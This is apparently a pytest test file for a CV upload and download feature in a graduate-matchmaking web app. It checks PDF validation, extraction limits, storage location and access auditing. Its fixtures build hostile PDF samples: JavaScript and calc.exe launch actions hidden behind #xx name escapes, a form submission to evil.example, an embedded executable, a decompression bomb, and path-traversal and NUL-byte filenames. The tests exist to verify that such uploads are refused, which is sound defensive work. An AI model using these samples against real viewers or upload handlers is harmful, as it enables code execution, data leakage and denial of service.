"""The CV upload: content checks, time-limited extraction, storage outside static/, who may download it."""

from __future__ import annotations

import io
import re
from pathlib import Path

import pytest
from helpers import first_extra_object, make_pdf

from matchmaker.models import AuditEntry, GraduateProfile, IntroductionState, Role



def encrypted_pdf() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(make_pdf())))
    writer.encrypt("secret", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64


def upload(client, data: bytes | None, filename: str = "cv.pdf", content_type: str = "application/pdf"):
    form = {} if data is None else {"cv": (io.BytesIO(data), filename, content_type)}
    return client.post("/me/cv", data=form, content_type="multipart/form-data")


def stored(db, user) -> GraduateProfile:
    db.session.expire_all()
    return db.session.scalar(db.select(GraduateProfile).where(GraduateProfile.user_id == user.id))


def cv_dir(app) -> Path:
    return Path(app.instance_path) / "uploads" / "cv"


@pytest.fixture
def graduate(make_user, make_profile, login_as):
    user = make_user(Role.graduate, email="marta@example.org")
    make_profile(user=user, name="Marta Kowalska", cv_text="typed before")
    login_as(user)
    return user


# ---- upload -----------------------------------------------------------------------------------

def test_upload_extracts_text_and_stores_under_a_random_name_outside_static(app, client, db, graduate):
    page = client.get("/me/cv")
    assert page.status_code == 200 and 'enctype="multipart/form-data"' in page.get_data(as_text=True)
    response = upload(client, make_pdf(), filename="../../static/evil.pdf")
    assert response.status_code == 302 and response.location.endswith("/me/profile#cv_text")
    profile = stored(db, graduate)
    assert "Marta Kowalska, process engineer, Python 1" in profile.cv_text
    assert profile.cv_uploaded_at is not None
    assert len(profile.cv_file) == 36 and profile.cv_file.endswith(".pdf") and "evil" not in profile.cv_file
    path = cv_dir(app) / profile.cv_file
    assert path.read_bytes() == make_pdf()
    assert "static" not in str(path.relative_to(app.instance_path))
    # The profile form shows the extracted text for checking and editing.
    form = client.get("/me/profile").get_data(as_text=True)
    assert "process engineer, Python 1" in form and "Replace or delete it" in form


def test_many_pages_are_capped(app, client, db, graduate):
    app.config["CV_MAX_PAGES"] = 3
    assert upload(client, make_pdf(pages=8)).status_code == 302
    text = stored(db, graduate).cv_text
    assert "Python 3" in text and "Python 4" not in text


def test_replace_removes_the_old_file_and_delete_keeps_the_text(app, client, db, graduate):
    upload(client, make_pdf(text="first version"))
    first = stored(db, graduate).cv_file
    upload(client, make_pdf(text="second version"))
    profile = stored(db, graduate)
    assert profile.cv_file != first and "second version" in profile.cv_text
    assert not (cv_dir(app) / first).exists() and (cv_dir(app) / profile.cv_file).exists()
    response = client.post("/me/cv/delete")
    assert response.status_code == 302
    after = stored(db, graduate)
    assert after.cv_file is None and "second version" in after.cv_text
    assert list(cv_dir(app).iterdir()) == []


def test_upload_without_a_profile_asks_for_the_profile_first(client, make_user, login_as):
    login_as(make_user(Role.graduate))
    response = upload(client, make_pdf())
    assert response.status_code == 302 and response.location.endswith("/me/profile")


# ---- bad files --------------------------------------------------------------------------------

BAD_FILES = {
    "no file": (None, "Please choose a PDF file."),
    "empty": (b"", "The file is empty."),
    "png named pdf": (PNG, "This file is not a PDF."),
    "text named pdf": (b"Hello, I am a CV\n", "This file is not a PDF."),
    "truncated": (make_pdf()[:-120], "damaged or incomplete"),
    "garbage after header": (b"%PDF-1.7\n" + b"\xff" * 500 + b"\n%%EOF\n", "damaged or incomplete"),
    "javascript": (make_pdf(catalog_extra=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
                   "scripts or automatic actions"),
    "launch": (make_pdf(catalog_extra=b"/OpenAction << /S /Launch /F (calc.exe) >>"), "scripts or automatic actions"),
    "encrypted": (encrypted_pdf(), "protected by a password"),
    # 150 MB of text squeezed into a stream of a few hundred KB.
    "decompression bomb": (make_pdf(content=b"BT /F1 12 Tf (" + b"A" * 150_000_000 + b") Tj ET", flate=True),
                           "could not be read in time or is too complex"),
}


@pytest.mark.parametrize("case", sorted(BAD_FILES))
def test_bad_files_get_a_message_at_the_field_and_nothing_is_saved(app, client, db, graduate, case):
    data, message = BAD_FILES[case]
    response = upload(client, data)
    assert response.status_code == 400, case
    body = response.get_data(as_text=True)
    assert 'class="errors" id="cv-err"' in body and message in body, case
    profile = stored(db, graduate)
    assert profile.cv_file is None and profile.cv_text == "typed before"
    assert not cv_dir(app).exists() or list(cv_dir(app).iterdir()) == []


# ---- active content in any object, names written with #xx escapes --------------------------------

SCRIPT = b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"  # /JavaScript and /JS, escaped
N = first_extra_object()


def outline_with_script() -> bytes:
    return make_pdf(catalog_extra=f"/Outlines {N} 0 R".encode(), extra_objects=[
        f"<< /Type /Outlines /First {N + 1} 0 R /Last {N + 1} 0 R /Count 1 >>".encode(),
        f"<< /Title (Profile) /Parent {N} 0 R /A ".encode() + SCRIPT + b" >>"])


def form_field_parent_with_script() -> bytes:
    return make_pdf(catalog_extra=f"/AcroForm << /Fields [{N} 0 R] >>".encode(),
                    page_extra={0: f"/Annots [{N + 1} 0 R]".encode()}, extra_objects=[
        f"<< /FT /Tx /T (name) /Kids [{N + 1} 0 R] /AA << /K ".encode() + SCRIPT + b" >> >>",
        f"<< /Type /Annot /Subtype /Widget /Parent {N} 0 R /Rect [72 600 300 620] /P 3 0 R >>".encode()])


def link_with_script_on_page_21() -> bytes:
    first = first_extra_object(21)
    return make_pdf(pages=21, page_extra={20: f"/Annots [{first} 0 R]".encode()}, extra_objects=[
        b"<< /Type /Annot /Subtype /Link /Rect [72 700 200 720] /A " + SCRIPT + b" >>"])


def link(action: bytes, pages: int = 1) -> bytes:
    """A PDF whose first page has one link annotation with `action`."""
    return make_pdf(pages=pages, page_extra={0: f"/Annots [{first_extra_object(pages)} 0 R]".encode()},
                    extra_objects=[b"<< /Type /Annot /Subtype /Link /Rect [72 700 200 720] /A " + action + b" >>"])


HIDDEN_SCRIPTS = {
    "outline action": (outline_with_script, lambda reader: reader.trailer["/Root"]["/Outlines"]["/First"]["/A"]),
    "form field parent": (form_field_parent_with_script,
                          lambda reader: reader.trailer["/Root"]["/AcroForm"]["/Fields"][0]["/AA"]["/K"]),
    "link on page 21": (link_with_script_on_page_21, lambda reader: reader.pages[20]["/Annots"][0]["/A"]),
}


@pytest.mark.parametrize("case", sorted(HIDDEN_SCRIPTS))
def test_scripts_with_escaped_names_are_found_in_any_object(app, client, db, graduate, case):
    build, find_action = HIDDEN_SCRIPTS[case]
    data = build()
    # The file is valid, its script invisible to a search of the bytes, and a reader decodes the names.
    from pypdf import PdfReader

    reader = PdfReader(io.BytesIO(data))
    assert len(reader.pages) >= 1
    action = find_action(reader)
    assert action["/S"] == "/JavaScript" and action["/JS"] == "app.alert(1)"
    assert not re.search(rb"/(JavaScript|JS|Launch)\b", data)
    response = upload(client, data)
    assert response.status_code == 400, case
    assert "scripts or automatic actions" in response.get_data(as_text=True)
    profile = stored(db, graduate)
    assert profile.cv_file is None and profile.cv_text == "typed before"


REFUSED_ACTIONS = {
    "named action on opening": make_pdf(catalog_extra=b"/OpenAction << /S /Named /N /Print >>"),
    "launch in a next chain": make_pdf(catalog_extra=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next "
                                                     b"[<< /S /L#61unch /F (calc.exe) >>] >>"),
    "page trigger": make_pdf(page_extra={0: b"/AA << /O << /S /SubmitForm /F (https://evil.example/) >> >>"}),
    "remote go-to": link(b"<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>"),
    "javascript uri": link(b"<< /S /URI /URI ( javascript:app.alert\\(1\\)) >>"),
    "file uri": link(b"<< /S /URI /URI (file://server/share/x) >>"),
    "script name tree": make_pdf(catalog_extra=f"/Names << /J#61vaScript {N} 0 R >>".encode(),
                                 extra_objects=[b"<< /Names [(a) << /S /GoTo /D [3 0 R /Fit] >>] >>"]),
    "action type by reference": make_pdf(page_extra={0: f"/Annots [{N} 0 R]".encode()}, extra_objects=[
        f"<< /Type /Annot /Subtype /Link /Rect [72 700 200 720] /A << /S {N + 1} 0 R >> >>".encode(),
        b"/Imp#6FrtData"]),
    # Not referenced from anywhere: a viewer repairing the file could still find it.
    "unreferenced launch": make_pdf(extra_objects=[b"<< /S /L#61unch /F (calc.exe) >>"]),
}


@pytest.mark.parametrize("case", sorted(REFUSED_ACTIONS))
def test_only_plain_links_and_jumps_are_accepted_as_actions(client, db, graduate, case):
    response = upload(client, REFUSED_ACTIONS[case])
    assert response.status_code == 400, case
    assert "scripts or automatic actions" in response.get_data(as_text=True), case
    assert stored(db, graduate).cv_file is None


def test_attached_files_are_refused_in_the_users_language(client, db, graduate):
    graduate.locale = "de"
    db.session.commit()
    data = make_pdf(catalog_extra=f"/Names << /EmbeddedFiles << /Names [(setup.exe) {N} 0 R] >> >>".encode(),
                    extra_objects=[f"<< /Type /Filespec /F (setup.exe) /EF << /F {N + 1} 0 R >> >>".encode(),
                                   b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream"])
    response = client.post("/me/cv", data={"cv": (io.BytesIO(data), "cv.pdf", "application/pdf")},
                           content_type="multipart/form-data", headers={"Accept-Language": "de"})
    assert response.status_code == 400
    assert "Diese PDF enthält angehängte Dateien" in response.get_data(as_text=True)
    assert stored(db, graduate).cv_file is None


def test_a_cv_with_web_mail_links_and_an_outline_is_accepted(client, db, graduate):
    data = make_pdf(catalog_extra=f"/Outlines {N} 0 R /OpenAction [3 0 R /Fit]".encode(),
                    page_extra={0: f"/Annots [{N + 2} 0 R {N + 3} 0 R]".encode()}, extra_objects=[
        f"<< /Type /Outlines /First {N + 1} 0 R /Last {N + 1} 0 R /Count 1 >>".encode(),
        f"<< /Title (Profile) /Parent {N} 0 R /A << /S /GoTo /D [3 0 R /XYZ 0 792 0] >> >>".encode(),
        b"<< /Type /Annot /Subtype /Link /Rect [72 700 200 720] /A << /S /URI /URI (https://github.com/mk) >> >>",
        b"<< /Type /Annot /Subtype /Link /Rect [72 680 200 700] /A << /Type /Action /S /URI "
        b"/URI (mailto:marta@example.org) >> /Border [0 0 0] >>"])
    response = upload(client, data)
    assert response.status_code == 302
    assert "process engineer, Python 1" in stored(db, graduate).cv_text


def test_extraction_that_takes_too_long_is_stopped(app, client, db, graduate):
    app.config["CV_EXTRACT_SECONDS"] = 0.01
    response = upload(client, make_pdf())
    assert response.status_code == 400
    assert "could not be read in time" in response.get_data(as_text=True)
    assert stored(db, graduate).cv_file is None


def test_file_over_the_cv_limit_is_refused_at_the_field(app, client, db, graduate):
    app.config["CV_MAX_BYTES"] = 500
    response = upload(client, make_pdf(text="x" * 600))
    assert response.status_code == 400 and "The file is too large" in response.get_data(as_text=True)
    assert stored(db, graduate).cv_file is None


def test_huge_upload_answers_413(client, db, graduate):
    # A body built by hand: the test client would spool a large file to a temporary file it never closes.
    body = (b"--xyz\r\nContent-Disposition: form-data; name=\"cv\"; filename=\"cv.pdf\"\r\n"
            b"Content-Type: application/pdf\r\n\r\n%PDF-1.4\n" + b"0" * (20 * 1024 * 1024) + b"\r\n--xyz--\r\n")
    response = client.post("/me/cv", data=body, content_type="multipart/form-data; boundary=xyz")
    assert response.status_code == 413
    assert "The upload is too large." in response.get_data(as_text=True)
    assert stored(db, graduate).cv_file is None


def test_nul_in_the_filename_is_harmless(app, client, db, graduate):
    response = upload(client, make_pdf(), filename="cv\x00.exe.pdf")
    assert response.status_code in (302, 400)
    assert response.status_code == 302
    assert "\x00" not in stored(db, graduate).cv_file
    response = upload(client, make_pdf(), filename="\x00")
    assert response.status_code == 400 and "Please choose a PDF file." in response.get_data(as_text=True)


def test_declared_type_does_not_matter(client, db, graduate):
    assert upload(client, PNG, filename="cv.pdf", content_type="application/pdf").status_code == 400
    assert upload(client, make_pdf(), filename="photo.png", content_type="image/png").status_code == 302


# ---- download ---------------------------------------------------------------------------------

@pytest.fixture
def with_cv(client, db, graduate):
    upload(client, make_pdf())
    return stored(db, graduate)


def _assert_pdf_attachment(response):
    assert response.status_code == 200
    assert response.mimetype == "application/pdf"
    assert response.headers["Content-Disposition"].startswith("attachment;")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.data.startswith(b"%PDF-")


def test_owner_downloads_without_an_audit_entry(client, db, with_cv):
    _assert_pdf_attachment(client.get(f"/graduates/{with_cv.id}/cv"))
    assert db.session.scalar(db.select(db.func.count()).select_from(AuditEntry)) == 0


def test_staff_download_is_audited(client, db, make_user, login_as, with_cv):
    staff = make_user(Role.staff)
    login_as(staff)
    _assert_pdf_attachment(client.get(f"/graduates/{with_cv.id}/cv"))
    entry = db.session.scalar(db.select(AuditEntry))
    assert (entry.action, entry.actor_id, entry.subject_user_id) == ("view_cv", staff.id, with_cv.user_id)


@pytest.mark.parametrize("state", [IntroductionState.introduced, IntroductionState.interview,
                                   IntroductionState.hired])
def test_introduced_company_downloads_and_is_audited(client, db, login_as, make_offer, with_cv, state, company_user,
                                                     make_introduction):
    offer = make_offer()
    make_introduction(state, offer=offer, profile=with_cv)
    member = company_user(offer.company)
    login_as(member)
    _assert_pdf_attachment(client.get(f"/graduates/{with_cv.id}/cv"))
    entry = db.session.scalar(db.select(AuditEntry).where(AuditEntry.action == "view_cv"))
    assert (entry.actor_id, entry.subject_user_id) == (member.id, with_cv.user_id)


@pytest.mark.parametrize("state", [None, IntroductionState.proposed, IntroductionState.accepted_by_company])
def test_company_without_an_introduction_gets_404(client, db, login_as, make_offer, with_cv, state, company_user,
                                                  make_introduction):
    offer = make_offer()
    if state is not None:
        make_introduction(state, offer=offer, profile=with_cv)
    login_as(company_user(offer.company))
    assert client.get(f"/graduates/{with_cv.id}/cv").status_code == 404


def test_other_company_than_the_introduced_one_gets_404(client, db, login_as, make_offer, make_company, with_cv,
                                                        company_user, make_introduction):
    offer = make_offer()
    make_introduction(IntroductionState.introduced, offer=offer, profile=with_cv)
    login_as(company_user(make_company()))
    assert client.get(f"/graduates/{with_cv.id}/cv").status_code == 404


def test_other_graduate_gets_404_and_roles_without_access_403(client, make_user, login_as, with_cv):
    login_as(make_user(Role.graduate))
    assert client.get(f"/graduates/{with_cv.id}/cv").status_code == 404
    login_as(make_user(Role.board))
    assert client.get(f"/graduates/{with_cv.id}/cv").status_code == 403
    login_as(make_user(Role.researcher))
    assert client.get(f"/graduates/{with_cv.id}/cv").status_code == 403


def test_anonymous_is_sent_to_login(app, with_cv):
    anonymous = app.test_client()
    for method, url in (("get", f"/graduates/{with_cv.id}/cv"), ("get", "/me/cv"), ("post", "/me/cv"),
                        ("post", "/me/cv/delete")):
        response = getattr(anonymous, method)(url)
        assert response.status_code == 302 and "/auth/login" in response.location, url


def test_profile_without_a_file_or_unknown_gives_404(client, db, graduate):
    profile = stored(db, graduate)
    assert client.get(f"/graduates/{profile.id}/cv").status_code == 404
    assert client.get("/graduates/999999/cv").status_code == 404
